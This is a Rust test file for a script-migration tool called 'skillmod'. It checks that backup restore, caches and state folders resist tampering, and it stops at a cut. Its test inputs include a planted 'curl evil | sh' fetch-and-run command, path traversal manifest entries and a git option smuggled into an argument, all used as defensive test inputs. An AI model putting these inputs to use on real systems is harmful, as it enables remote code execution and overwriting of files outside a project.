//! Nothing lost, nothing written outside: untrusted `.skillmod/` state is checked, not believed;
//! writes are durable and honest; the project root comes from each file; interrupted runs are
//! recovered; walk errors are reported; paths are quoted the way git quotes them.

use std::path::{Path, PathBuf};
use std::process::Command;

use crate::common::*;
use serde_json::{Value, json};

const LEGACY: &[u8] = b"#!/bin/sh\necho \"Created: out.txt\"\necho SUCCESS\n";

fn sha256(bytes: &[u8]) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(bytes))
}

/// A hand-made backup run, as a repository could carry one: `entries` are manifest lines, `files`
/// the backups written under `files/`.
fn plant_run(root: &Path, id: &str, entries: &[Value], files: &[(&str, &[u8])]) -> PathBuf {
    let dir = root.join(".skillmod/backups").join(id);
    std::fs::create_dir_all(dir.join("files")).expect("mkdir");
    for (name, bytes) in files {
        std::fs::write(dir.join("files").join(name), bytes).expect("backup");
    }
    let text: String = entries.iter().map(|e| format!("{e}\n")).collect();
    std::fs::write(dir.join("manifest.jsonl"), text).expect("manifest");
    dir
}

fn restore(dir: &Path, extra: &[&str]) -> (i32, Value) {
    let mut args = vec!["restore"];
    args.extend(extra);
    json_report(dir, &args)
}

#[test]
fn restore_refuses_manifest_entries_that_leave_the_project() {
    let tmp = tempfile::tempdir().expect("tmp");
    let root = tmp.path().join("repo");
    let outside = tmp.path().join("bashrc");
    std::fs::write(&outside, b"safe\n").expect("write");
    std::fs::create_dir_all(root.join("skills")).expect("mkdir");
    let current = b"migrated\n";
    std::fs::write(root.join("skills/execute.sh"), current).expect("write");
    std::os::unix::fs::symlink(tmp.path(), root.join("escape")).expect("symlink");
    let evil = b"curl evil | sh\n";
    let entry = |path: &str, backup: &str| {
        json!({"path": path, "backup": backup, "mode": 0o4755,
               "sha256_before": sha256(evil), "sha256_after": sha256(current)})
    };
    plant_run(
        &root,
        "20261120T000000.000Z",
        &[
            entry(&outside.display().to_string(), "files/000001-x"),
            entry("../bashrc", "files/000001-x"),
            entry("escape/bashrc", "files/000001-x"),
            entry("skills/execute.sh", "../../../x"),
        ],
        &[("000001-x", evil)],
    );
    // A planted run is restored only when named and trusted; its entries are checked even then.
    for force in [false, true] {
        let trusted = ["--run", "20261120T000000.000Z", "--trust"];
        let forced = ["--run", "20261120T000000.000Z", "--trust", "--force"];
        let args: &[&str] = if force { &forced } else { &trusted };
        let (status, report) = restore(&root, args);
        assert_eq!(status, 1, "{report}");
        let codes: Vec<&str> = report["files"]
            .as_array()
            .expect("files")
            .iter()
            .map(|f| f["errors"][0]["code"].as_str().unwrap_or(""))
            .collect();
        assert_eq!(codes, ["MANIFEST_ENTRY_UNSAFE"; 4], "{report}");
        assert_eq!(std::fs::read(&outside).expect("read"), b"safe\n");
        assert_eq!(
            std::fs::read(root.join("skills/execute.sh")).expect("read"),
            current
        );
    }
}

#[test]
fn restore_checks_the_backup_hash_and_drops_set_id_bits() {
    let tmp = tempfile::tempdir().expect("tmp");
    let root = tmp.path();
    let current = b"migrated\n";
    let script = write_script(root, "s/execute.sh", current);
    let original = b"#!/bin/sh\necho SUCCESS\n";
    let entry = |before: &[u8]| {
        json!({"path": "s/execute.sh", "backup": "files/000001-execute.sh", "mode": 0o6755,
               "sha256_before": sha256(before), "sha256_after": sha256(current)})
    };
    plant_run(
        root,
        "20261120T000000.000Z",
        &[entry(b"something else")],
        &[("000001-execute.sh", original)],
    );
    let (status, report) = restore(
        root,
        &["--run", "20261120T000000.000Z", "--trust", "--force"],
    );
    assert_eq!(status, 1);
    assert_eq!(report["files"][0]["errors"][0]["code"], "BACKUP_CORRUPT");
    assert_eq!(std::fs::read(&script).expect("read"), current);
    plant_run(
        root,
        "20261120T000001.000Z",
        &[entry(original)],
        &[("000001-execute.sh", original)],
    );
    let (status, report) = restore(root, &["--run", "20261120T000001.000Z", "--trust"]);
    assert_eq!(status, 0, "{report}");
    assert_eq!(std::fs::read(&script).expect("read"), original);
    assert_eq!(mode(&script), 0o755, "setuid and setgid are never restored");
}

#[test]
fn run_ids_must_be_run_ids() {
    let tmp = tempfile::tempdir().expect("tmp");
    let root = tmp.path();
    write_script(root, "s/execute.sh", b"x\n");
    plant_run(root, "99999999T000000.000Z", &[], &[]);
    let out = run(skillmod(root).args(["restore", "--run", "../../x"]));
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("INVALID_RUN_ID"), "{}", stderr(&out));
    // A run named far in the future is not a run: nothing to restore.
    let out = run(skillmod(root).args(["restore"]));
    assert!(stderr(&out).contains("NO_BACKUPS"), "{}", stderr(&out));
}

#[test]
fn a_state_folder_that_is_a_symlink_is_refused() {
    let tmp = tempfile::tempdir().expect("tmp");
    let root = tmp.path().join("repo");
    let elsewhere = tmp.path().join("elsewhere");
    std::fs::create_dir_all(&elsewhere).expect("mkdir");
    let script = write_script(&root, "s/execute.sh", LEGACY);
    // Outside git, the state of a run on `s` (backups, check's cache) is in the named folder,
    // s/.skillmod; a run on the whole tree keeps it at the top, repo/.skillmod.
    for (state, named) in [("s/.skillmod", "s"), (".skillmod", ".")] {
        std::os::unix::fs::symlink(&elsewhere, root.join(state)).expect("symlink");
        let (status, report) = json_report(&root, &["migrate", named]);
        assert_eq!(status, 1, "{named}");
        assert_eq!(
            report["files"][0]["errors"][0]["code"], "STATE_DIR_UNSAFE",
            "{named}"
        );
        assert_eq!(std::fs::read(&script).expect("read"), LEGACY);
        assert_eq!(std::fs::read_dir(&elsewhere).expect("ls").count(), 0);
        let out = run(skillmod(&root).args(["check", named]));
        assert_eq!(
            out.status.code(),
            Some(1),
            "{named}: findings still reported"
        );
        assert!(
            stderr(&out).contains("STATE_DIR_UNSAFE") || stderr(&out).contains("symlink"),
            "{named}: {}",
            stderr(&out)
        );
        assert_eq!(std::fs::read_dir(&elsewhere).expect("ls").count(), 0);
    }
}

#[test]
fn a_cache_that_came_with_the_repository_cannot_make_legacy_lines_pass() {
    let tmp = tempfile::tempdir().expect("tmp");
    let home = tempfile::tempdir().expect("home");
    let root = tmp.path();
    write_script(root, "s/execute.sh", LEGACY);
    let check = |dir: &Path| {
        run(skillmod(dir)
            .env("XDG_CACHE_HOME", home.path())
            .args(["check", "s"]))
    };
    assert_eq!(check(root).status.code(), Some(1));
    // Forge the cache: every entry and every place says "nothing found", as a committed cache
    // could (the layout of check.bin, postcard-encoded). Outside git, `check s` keeps it in the
    // named folder.
    let path = root.join("s/.skillmod/cache/check.bin");
    let mut cache = read_cache(&path);
    assert!(!cache.entries.is_empty(), "nothing cached to forge");
    for entry in cache.entries.values_mut() {
        *entry = skillmod::check::cache::Entry::default();
    }
    for place in cache.places.values_mut() {
        *place = None;
    }
    std::fs::write(&path, postcard::to_stdvec(&cache).expect("encode")).expect("write");
    assert_eq!(
        check(root).status.code(),
        Some(0),
        "the forged cache is not read as this layout: the forgery proves nothing"
    );
    // A fresh clone elsewhere (another machine's salt): the forged entries never match.
    let clone = tempfile::tempdir().expect("clone");
    write_script(clone.path(), "s/execute.sh", LEGACY);
    std::fs::create_dir_all(clone.path().join("s/.skillmod/cache")).expect("mkdir");
    std::fs::copy(&path, clone.path().join("s/.skillmod/cache/check.bin")).expect("copy");
    let other_home = tempfile::tempdir().expect("home");
    let out = run(skillmod(clone.path())
        .env("XDG_CACHE_HOME", other_home.path())
        .args(["check", "s"]));
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    assert!(stdout(&out).contains("success: echo SUCCESS"));
}

#[test]
fn cache_dir_keeps_the_cache_outside_the_repository() {
    let tmp = tempfile::tempdir().expect("tmp");
    let cache = tempfile::tempdir().expect("cache");
    write_script(tmp.path(), "s/execute.sh", LEGACY);
    for _ in 0..2 {
        let out = run(skillmod(tmp.path())
            .env("SKILLMOD_CACHE_DIR", cache.path())
            .args(["check", "s"]));
        assert_eq!(out.status.code(), Some(1));
    }
    assert!(cache.path().join("check.bin").is_file());
    assert!(cache.path().join("salt").is_file());
    assert!(!tmp.path().join(".skillmod").exists());
}

#[test]
fn changed_since_never_passes_an_option_to_git() {
    let tmp = tempfile::tempdir().expect("tmp");
    git_init(tmp.path());
    write_script(tmp.path(), "s/execute.sh", LEGACY);
    git(tmp.path(), &["add", "."]);
    git(tmp.path(), &["commit", "-qm", "init"]);
    let precious = tmp.path().join("precious");
    std::fs::write(&precious, b"keep me\n").expect("write");
    let out = run(skillmod(tmp.path()).args(["check", "--changed-since=--output=precious"]));
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("INVALID_REVISION"),
        "{}",
        stderr(&out)
    );
    assert_eq!(std::fs::read(&precious).expect("read"), b"keep me\n");
}

#[test]
fn a_torn_last_manifest_line_is_left_out_with_a_warning() {
    let tmp = tempfile::tempdir().expect("tmp");
    let root = tmp.path();
    write_script(root, "s/a/execute.sh", LEGACY);
    write_script(root, "s/b/execute.sh", LEGACY);
    let state = root.join("state");
    let out = run(skillmod(root)
        .env("XDG_STATE_HOME", &state)
        .args(["migrate", "s"]));
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    // Outside git, the backups of `migrate s` are in s/.skillmod, paths relative to s.
    let run_dir = std::fs::read_dir(root.join("s/.skillmod/backups"))
        .expect("backups")
        .flatten()
        .find(|e| e.path().is_dir())
        .expect("run")
        .path();
    let manifest = run_dir.join("manifest.jsonl");
    let mut text = std::fs::read(&manifest).expect("manifest");
    let entries: Vec<Value> = String::from_utf8_lossy(&text)
        .lines()
        .map(|l| serde_json::from_str(l).expect("manifest line"))
        .collect();
    let paths: Vec<&str> = entries
        .iter()
        .map(|e| e["path"].as_str().expect("path"))
        .collect();
    // Each skill folder's runtime file is recorded before the script that sources it, so the
    // last line is a script's (a's or b's: the scripts are migrated in parallel).
    let mut sorted = paths.clone();
    sorted.sort_unstable();
    assert_eq!(
        sorted,
        [
            "a/execute.sh",
            "a/skillmod-runtime.sh",
            "b/execute.sh",
            "b/skillmod-runtime.sh"
        ],
        "{paths:?}"
    );
    let (torn, intact) = paths.split_last().expect("lines");
    assert!(torn.ends_with("/execute.sh"), "{paths:?}");
    let torn_script = root.join("s").join(torn);
    let torn_bytes = std::fs::read(&torn_script).expect("torn script");
    assert_ne!(torn_bytes, LEGACY);
    text.truncate(text.len() - 20);
    std::fs::write(&manifest, &text).expect("write");
    // A run cut short: its seal names the lines before the torn one (it is rewritten after
    // each whole line).
    let whole = text.iter().rposition(|&b| b == b'\n').map_or(0, |i| i + 1);
    let seals: Vec<PathBuf> = std::fs::read_dir(state.join("skillmod/journal"))
        .expect("journal")
        .map(|e| e.expect("entry").path())
        .filter(|p| p.extension().is_some_and(|e| e == "seal"))
        .collect();
    assert_eq!(seals.len(), 1, "{seals:?}");
    std::fs::write(
        &seals[0],
        format!("{whole:020} {}\n", {
            use sha2::Digest;
            hex::encode(sha2::Sha256::digest(&text[..whole]))
        }),
    )
    .expect("seal");
    let out = run(skillmod(root)
        .env("XDG_STATE_HOME", &state)
        .args(["restore", "s"]));
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("after the lines its migrate sealed (a write cut short"),
        "{}",
        stderr(&out)
    );
    // The torn line is left out: the other script and both runtime files (created by the run)
    // are undone, and the torn line's script is left as it is. (In a real crash that script was
    // never replaced, since its line is synced before the replace, so it needs no runtime.)
    assert!(
        stdout(&out).contains("3 of 3 files restored"),
        "{}",
        stdout(&out)
    );
    for path in intact {
        let file = root.join("s").join(path);
        if path.ends_with("/execute.sh") {
            assert_eq!(std::fs::read(&file).expect("script"), LEGACY, "{path}");
        } else {
            assert!(!file.exists(), "{path}: created by the run, removed");
        }
    }
    assert_eq!(
        std::fs::read(&torn_script).expect("torn script"),
        torn_bytes
    );
}

#[test]
fn owner_and_group_are_kept_and_hard_links_and_read_only_files_are_refused() {
    let tmp = tempfile::tempdir().expect("tmp");
    let root = tmp.path();
    let linked = write_script(root, "s/linked/execute.sh", LEGACY);
    std::fs::hard_link(&linked, root.join("other-name.sh")).expect("link");
    let read_only = write_script(root, "s/ro/execute.sh", LEGACY);
    set_mode(&read_only, 0o444);
    let (status, report) = json_report(root, &["migrate", "--no-backup", "s"]);
    assert_eq!(status, 1);
    let code = |path: &str| {
        report["files"]
            .as_array()
            .expect("files")
            .iter()
            .find(|f| f["path"] == path)
            .map(|f| f["errors"][0]["code"].clone())
    };
    assert_eq!(code("s/linked/execute.sh"), Some(json!("HARD_LINK")));
    assert_eq!(code("s/ro/execute.sh"), Some(json!("READ_ONLY")));
    assert_eq!(std::fs::read(&linked).expect("read"), LEGACY);
    let (status, _) = json_report(root, &["migrate", "--no-backup", "--force", "s/ro"]);
    assert_eq!(status, 0);
    assert_eq!(mode(&read_only), 0o444, "mode kept");
    if is_root() {
        use std::os::unix::fs::MetadataExt;
        let owned = write_script(root, "s/owned/execute.sh", LEGACY);
        std::os::unix::fs::chown(&owned, Some(65534), Some(65534)).expect("chown");
        let (status, report) = json_report(root, &["migrate", "--no-backup", "s/owned"]);
        assert_eq!(status, 0, "{report}");
        let meta = std::fs::metadata(&owned).expect("stat");
        assert_eq!((meta.uid(), meta.gid()), (65534, 65534));
        assert_ne!(std::fs::read(&owned).expect("read"), LEGACY);
    }
}

fn is_root() -> bool {
    Command::new("id")
        .arg("-u")
        .output()
        .is_ok_and(|o| o.stdout.starts_with(b"0\n"))
}

#[test]
fn the_project_root_comes_from_each_file() {
    let tmp = tempfile::tempdir().expect("tmp");
    let repo = tmp.path().join("r");
    std::fs::create_dir_all(&repo).expect("mkdir");
    git_init(&repo);
    write_script(&repo, "s/clean/execute.sh", LEGACY);
    write_script(&repo, "s/dirty/execute.sh", LEGACY);
    git(&repo, &["add", "."]);
    git(&repo, &["commit", "-qm", "init"]);
    let dirty = repo.join("s/dirty/execute.sh");
    std::fs::write(&dirty, [LEGACY, b"echo edited >&2\n"].concat()).expect("edit");
    // Run from the folder above the repository.
    let (status, report) = json_report(tmp.path(), &["migrate", "r/s"]);
    assert_eq!(status, 1, "{report}");
    let files = report["files"].as_array().expect("files");
    let dirty_entry = files
        .iter()
        .find(|f| f["path"] == "r/s/dirty/execute.sh")
        .expect("dirty entry");
    assert_eq!(dirty_entry["errors"][0]["code"], "DIRTY_FILE");
    assert!(
        repo.join(".skillmod/backups").is_dir(),
        "backups at the repository root"
    );
    assert!(!tmp.path().join(".skillmod").exists());
}

#[test]
fn restore_since_undoes_an_interrupted_run_and_its_rerun() {
    let tmp = tempfile::tempdir().expect("tmp");
    let root = tmp.path();
    let a = write_script(root, "s/a/execute.sh", LEGACY);
    let b = write_script(root, "s/b/execute.sh", LEGACY);
    // The interrupted run got as far as a: it named s (so both runs share s's backups, outside
    // git) but b was left out.
    let out = run(skillmod(root).args(["migrate", "--exclude", "s/b/", "s"]));
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_ne!(std::fs::read(&a).expect("read"), LEGACY);
    assert_eq!(std::fs::read(&b).expect("read"), LEGACY);
    std::thread::sleep(std::time::Duration::from_millis(20));
    run(skillmod(root).args(["migrate", "s"]));
    let out = run(skillmod(root).args(["restore", "s"]));
    // The rerun migrated b and created b's runtime file (each skill folder has its own).
    assert!(
        stdout(&out).contains("2 of 2 files restored")
            && stdout(&out).contains("1 older run(s) left as they are"),
        "{}",
        stdout(&out)
    );
    assert_eq!(std::fs::read(&b).expect("read"), LEGACY);
    assert!(!root.join("s/b/skillmod-runtime.sh").exists());
    assert_ne!(std::fs::read(&a).expect("read"), LEGACY);
    assert!(root.join("s/a/skillmod-runtime.sh").exists());
    run(skillmod(root).args(["migrate", "s"]));
    let runs = stdout(&run(skillmod(root).args(["restore", "--list", "s"])));
    let first = runs
        .lines()
        .next()
        .expect("a run")
        .split('\t')
        .next()
        .expect("id");
    let out = run(skillmod(root).args(["restore", "--since", first, "s"]));
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    assert_eq!(std::fs::read(&a).expect("read"), LEGACY);
    assert_eq!(std::fs::read(&b).expect("read"), LEGACY);
}

#[test]
fn restore_skips_fifos_and_devices() {
    let tmp = tempfile::tempdir().expect("tmp");
    let root = tmp.path();
    let script = write_script(root, "s/execute.sh", LEGACY);
    run(skillmod(root).args(["migrate", "s"]));
    std::fs::remove_file(&script).expect("rm");
    let made = Command::new("mkfifo")
        .arg(&script)
        .status()
        .expect("mkfifo");
    assert!(made.success());
    let (status, report) = restore(root, &["--force", "s"]);
    assert_eq!(status, 1);
    assert_eq!(
        report["files"][0]["errors"][0]["code"],
        "NOT_A_REGULAR_FILE"
    );
}

#[test]
fn stale_temp_files_of_a_dead_run_are_removed_and_reported() {
    let tmp = tempfile::tempdir().expect("tmp");
    let root = tmp.path();
    write_script(root, "s/execute.sh", LEGACY);
    // A pid that cannot be running (above the kernel's pid_max).
    let stale = root.join("s/.skillmod-99999999-abc123.tmp");
    let foreign = root.join("s/.other-tool.tmp");
    std::fs::write(&stale, b"half").expect("write");
    std::fs::write(&foreign, b"not ours").expect("write");
    let (status, report) = json_report(root, &["migrate", "s"]);
    assert_eq!(status, 0, "{report}");
    assert_eq!(
        report["temp_files_removed"],
        json!(["s/.skillmod-99999999-abc123.tmp"])
    );
    assert!(!stale.exists());
    assert!(foreign.exists());
}

#[test]
fn a_file_named_like_a_temp_file_that_git_tracks_or_that_is_no_temp_name_is_kept() {
    // Only skillmod's own names (six random letters or digits after the pid) are leftovers, and
    // never a file git tracks: the hostile trial's committed `.skillmod-4242424-abcdef.tmp` and a
    // user's `.skillmod-5555555-notes.tmp` were deleted, and the summary called the second one
    // "left alone".
    let tmp = tempfile::tempdir().expect("tmp");
    let root = tmp.path();
    git_init(root);
    write_script(root, "s/execute.sh", LEGACY);
    let tracked = root.join("s/.skillmod-99999999-abcdef.tmp");
    std::fs::write(&tracked, b"tracked").expect("write");
    git(root, &["add", "-A"]);
    git(root, &["commit", "-qm", "skill"]);
    let notes = root.join("s/.skillmod-99999998-notes.tmp");
    std::fs::write(&notes, b"notes").expect("write");
    let stale = root.join("s/.skillmod-99999997-Ab3dE9.tmp");
    std::fs::write(&stale, b"half").expect("write");
    let (status, report) = json_report(root, &["migrate", "--allow-dirty", "s"]);
    assert_eq!(status, 0, "{report}");
    assert_eq!(
        report["temp_files_removed"],
        json!(["s/.skillmod-99999997-Ab3dE9.tmp"])
    );
    assert!(tracked.exists() && notes.exists() && !stale.exists());
}

#[test]
fn an_unreadable_folder_is_an_error_not_a_silent_pass() {
    let tmp = tempfile::tempdir().expect("tmp");
    let root = tmp.path();
    write_script(root, "s/ok/execute.sh", b"#!/bin/sh\necho hi >&2\n");
    write_script(root, "s/secret/execute.sh", LEGACY);
    set_mode(&root.join("s/secret"), 0o000);
    for (shell_args, want) in [
        (vec!["check", "s"], 2),
        (vec!["migrate", "--dry-run", "s"], 1),
    ] {
        let mut cmd = if is_root() {
            let mut c = Command::new("setpriv");
            c.args(["--reuid=65534", "--regid=65534", "--clear-groups"])
                .arg(env!("CARGO_BIN_EXE_skillmod"));
            c
        } else {
            Command::new(env!("CARGO_BIN_EXE_skillmod"))
        };
        set_mode(root, 0o755);
        let out = run(cmd.current_dir(root).env("NO_COLOR", "1").args(&shell_args));
        let text = format!("{}{}", stdout(&out), stderr(&out));
        assert_eq!(out.status.code(), Some(want), "{shell_args:?}: {text}");
        assert!(text.contains("UNREADABLE_FOLDER"), "{shell_args:?}: {text}");
    }
    set_mode(&root.join("s/secret"), 0o755);
}

/// Apply a dry-run diff with `git apply` in `root`; the test fails if git refuses it.
fn git_apply(root: &Path, diff: &[u8]) {
    std::fs::write(root.join("p.diff"), diff).expect("write");
    let applied = Command::new("git")
        .args(["apply", "p.diff"])
        .current_dir(root)
        .output()
        .expect("git apply");
    assert!(
        applied.status.success(),
        "{}\n{}",
        String::from_utf8_lossy(&applied.stderr),
        String::from_utf8_lossy(diff)
    );
}

#[test]
fn diffs_of_paths_with_newlines_and_quotes_still_apply() {
    let tmp = tempfile::tempdir().expect("tmp");
    let root = tmp.path();
    git_init(root);
    let name = "s/we\"ird\nname/execute.sh";
    let script = write_script(root, name, LEGACY);
    let out = run(skillmod(root).args(["migrate", "--dry-run", "--mode", "comment", "s"]));
    let diff = stdout(&out);
    assert!(
        diff.contains("--- \"a/s/we\\\"ird\\nname/execute.sh\""),
        "{diff}"
    );
    git_apply(root, diff.as_bytes());
    assert!(
        std::fs::read_to_string(&script)
            .expect("read")
            .contains("# LEGACY")
    );
}

/// `n` legacy skills under `root/s`, each a little different; returns their paths.
fn bulk(root: &Path, n: usize) -> Vec<PathBuf> {
    (0..n)
        .map(|i| {
            let text = format!(
                "#!/bin/sh\nset -e\ntouch out-{i}.txt\necho \"Created: out-{i}.txt\"\necho \"Confidence: 0.9\"\necho SUCCESS\n"
            );
            write_script(root, &format!("s/skill-{i:05}/execute.sh"), text.as_bytes())
        })
        .collect()
}

/// What each script looks like fully migrated (a migration of a copy, without backups).
fn migrated_copies(scripts: &[PathBuf], root: &Path) -> Vec<Vec<u8>> {
    let copy = tempfile::tempdir().expect("copy");
    for script in scripts {
        let rel = script.strip_prefix(root).expect("under root");
        write_script(
            copy.path(),
            &rel.to_string_lossy(),
            &std::fs::read(script).expect("read"),
        );
    }
    let out = run(skillmod(copy.path()).args(["migrate", "-q", "--no-backup", "s"]));
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    scripts
        .iter()
        .map(|s| std::fs::read(copy.path().join(s.strip_prefix(root).expect("rel"))).expect("read"))
        .collect()
}

fn temp_files(root: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).into_iter().flatten().flatten() {
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
            } else if entry
                .file_name()
                .to_string_lossy()
                .starts_with(".skillmod-")
            {
                found.push(path);
            }
        }
    }
    found
}

/// Every script is its original or its fully migrated self; never anything in between.
fn original_or_migrated(scripts: &[PathBuf], originals: &[Vec<u8>], migrated: &[Vec<u8>]) -> usize {
    let mut done = 0;
    for ((script, original), full) in scripts.iter().zip(originals).zip(migrated) {
        let now = std::fs::read(script).expect("read");
        assert!(
            now == *original || now == *full,
            "{} is half-written",
            script.display()
        );
        done += usize::from(now == *full);
    }
    done
}

#[test]
fn a_bulk_run_killed_at_any_moment_loses_nothing() {
    for delay_ms in [5u64, 60, 250] {
        let tmp = tempfile::tempdir().expect("tmp");
        let root = tmp.path();
        let scripts = bulk(root, 1000);
        let originals: Vec<Vec<u8>> = scripts
            .iter()
            .map(|s| std::fs::read(s).expect("read"))
            .collect();
        let migrated = migrated_copies(&scripts, root);
        let mut child = skillmod(root)
            .args(["migrate", "-q", "s"])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("spawn");
        std::thread::sleep(std::time::Duration::from_millis(delay_ms));
        let _ = child.kill();
        let _ = child.wait();
        let done = original_or_migrated(&scripts, &originals, &migrated);
        // The rerun finishes the job and clears what the killed run left.
        let out = run(skillmod(root).args(["migrate", "-q", "s"]));
        assert_eq!(
            out.status.code(),
            Some(0),
            "{delay_ms} ms: {}",
            stderr(&out)
        );
        assert_eq!(
            original_or_migrated(&scripts, &originals, &migrated),
            scripts.len(),
            "{delay_ms} ms: the rerun migrated everything ({done} before)"
        );
        assert_eq!(
            temp_files(&root.join("s")),
            Vec::<PathBuf>::new(),
            "{delay_ms} ms"
        );
        let runs = stdout(&run(skillmod(root).args(["restore", "--list", "s"])));
        let first = runs
            .lines()
            .next()
            .expect("a run")
            .split('\t')
            .next()
            .expect("id")
            .to_string();
        let out = run(skillmod(root).args(["restore", "--since", &first, "s"]));
        assert_eq!(
            out.status.code(),
            Some(0),
            "{delay_ms} ms: {}",
            stdout(&out)
        );
        for (script, original) in scripts.iter().zip(&originals) {
            assert_eq!(
                &std::fs::read(script).expect("read"),
                original,
                "{delay_ms} ms"
            );
        }
    }
}

/// Run a migration where writes fail partway, as on a full disk, then check that every script
/// is original or migrated with a readable backup, and that restore brings all of them back once
/// `free` has made room again.
fn full_disk_leaves_everything_recoverable(
    root: &Path,
    migrate: &mut Command,
    free: impl FnOnce(),
) {
    let scripts: Vec<PathBuf> = (0..200)
        .map(|i| root.join(format!("s/skill-{i:05}/execute.sh")))
        .collect();
    let originals: Vec<Vec<u8>> = scripts
        .iter()
        .map(|s| std::fs::read(s).expect("read"))
        .collect();
    let migrated = migrated_copies(&scripts, root);
    let out = run(migrate);
    assert_eq!(
        out.status.code(),
        Some(1),
        "some writes must fail: {}",
        stderr(&out)
    );
    let done = original_or_migrated(&scripts, &originals, &migrated);
    assert!(done > 0 && done < scripts.len(), "{done} migrated");
    assert_eq!(temp_files(&root.join("s")), Vec::<PathBuf>::new());
    // Outside git, `migrate s` keeps its state in s/.skillmod.
    let ignore = std::fs::read(root.join("s/.skillmod/.gitignore")).unwrap_or_default();
    assert!(ignore.ends_with(b"*\n"), "the state .gitignore is whole");
    free();
    let out = run(skillmod(root).args(["restore", "s"]));
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}{}",
        stdout(&out),
        stderr(&out)
    );
    for (script, original) in scripts.iter().zip(&originals) {
        assert_eq!(&std::fs::read(script).expect("read"), original);
    }
}

#[test]
fn a_full_disk_leaves_every_file_whole_and_recoverable() {
    // A real write failure: a file-size limit (`ulimit -f`, with SIGXFSZ ignored) makes every
    // write past 30 KiB fail, as ENOSPC would; the backup manifest hits it partway through (the
    // runtime file, about 21 KiB, fits).
    let tmp = tempfile::tempdir().expect("tmp");
    let root = tmp.path();
    bulk(root, 200);
    let mut limited = Command::new("sh");
    limited
        .arg("-c")
        .arg("trap '' XFSZ; ulimit -f 60; exec \"$0\" migrate -q s")
        .arg(env!("CARGO_BIN_EXE_skillmod"))
        .current_dir(root)
        .env("NO_COLOR", "1")
        .env("XDG_STATE_HOME", state_home());
    full_disk_leaves_everything_recoverable(root, &mut limited, || {});
    // A real full disk, where a small tmpfs can be mounted (root with CAP_SYS_ADMIN).
    if is_root() {
        let disk = tempfile::tempdir().expect("disk");
        let mounted = Command::new("mount")
            .args(["-t", "tmpfs", "-o", "size=8m", "tmpfs"])
            .arg(disk.path())
            .status()
            .is_ok_and(|s| s.success());
        if mounted {
            bulk(disk.path(), 200);
            // Fill the disk but for room for about a hundred more files.
            let filler = disk.path().join("filler");
            let avail = Command::new("df")
                .args(["--output=avail", "-B1"])
                .arg(disk.path())
                .output()
                .ok()
                .and_then(|o| {
                    String::from_utf8_lossy(&o.stdout)
                        .lines()
                        .nth(1)?
                        .trim()
                        .parse::<u64>()
                        .ok()
                })
                .expect("df");
            std::fs::write(
                &filler,
                vec![0u8; avail.saturating_sub(400 * 1024) as usize],
            )
            .expect("filler");
            let mut migrate = skillmod(disk.path());
            migrate.args(["migrate", "-q", "s"]);
            let filled = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
                full_disk_leaves_everything_recoverable(disk.path(), &mut migrate, || {
                    let _ = std::fs::remove_file(&filler);
                })
            }));
            let _ = Command::new("umount").arg(disk.path()).status();
            if let Err(panic) = filled {
                std::panic::resume_unwind(panic);
            }
        } else {
            eprintln!("tmpfs cannot be mounted here; the file-size limit above stood in for it");
        }
    }
}

#[test]
fn lone_carriage_returns_neither_panic_nor_break_the_diff() {
    for mode in ["capture", "comment"] {
        let tmp = tempfile::tempdir().expect("tmp");
        let root = tmp.path();
        git_init(root);
        let script = write_script(
            root,
            "s/execute.sh",
            b"#!/bin/sh\necho \"A\rB\"\necho \"SUCCESS\"\nx=\"y\r\"\necho \"Created: a\rb\"\n",
        );
        let out = run(skillmod(root).args(["migrate", "--dry-run", "--mode", mode, "s"]));
        assert_eq!(out.status.code(), Some(0), "{mode}: {}", stderr(&out));
        git_apply(root, &out.stdout);
        let migrated = std::fs::read(&script).expect("read");
        assert!(syntax_ok("sh", &script), "{mode}");
        assert!(String::from_utf8_lossy(&migrated).contains("LEGACY"));
    }
}

/// A git repository with one legacy skill, for the state-file attacks.
fn legacy_repo() -> tempfile::TempDir {
    let tmp = tempfile::tempdir().expect("tmp");
    git_init(tmp.path());
    write_script(tmp.path(), "s/execute.sh", b"#!/bin/bash\necho SUCCESS\n");
    tmp
}

#[test]
fn a_committed_cache_link_cannot_make_check_write_outside_the_repository() {
    let tmp = legacy_repo();
    let outside = tempfile::tempdir().expect("outside");
    std::fs::create_dir_all(tmp.path().join(".skillmod")).expect("state");
    std::os::unix::fs::symlink(outside.path(), tmp.path().join(".skillmod/cache")).expect("link");
    let out = run_bounded(skillmod(tmp.path()).args(["check", "."]), 20);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("STATE_DIR_UNSAFE"),
        "{}",
        stderr(&out)
    );
    let written: Vec<_> = std::fs::read_dir(outside.path()).expect("ls").collect();
    assert!(written.is_empty(), "wrote outside: {written:?}");
}

#[test]
fn fifos_and_devices_as_state_files_cannot_hang_or_flood_check() {
    for victim in [".skillmod/cache/check.bin", ".skillmod/.gitignore"] {
        let tmp = legacy_repo();
        let path = tmp.path().join(victim);
        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        let made = std::process::Command::new("mkfifo")
            .arg(&path)
            .status()
            .expect("mkfifo");
        assert!(made.success());
        let out = run_bounded(skillmod(tmp.path()).args(["check", "."]), 20);
        assert_eq!(out.status.code(), Some(1), "{victim}: {}", stdout(&out));
    }
    let tmp = legacy_repo();
    let cache = tmp.path().join(".skillmod/cache");
    std::fs::create_dir_all(&cache).expect("mkdir");
    std::os::unix::fs::symlink("/dev/zero", cache.join("check.bin")).expect("link");
    let out = run_bounded(skillmod(tmp.path()).args(["check", "."]), 20);
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
}

#[test]
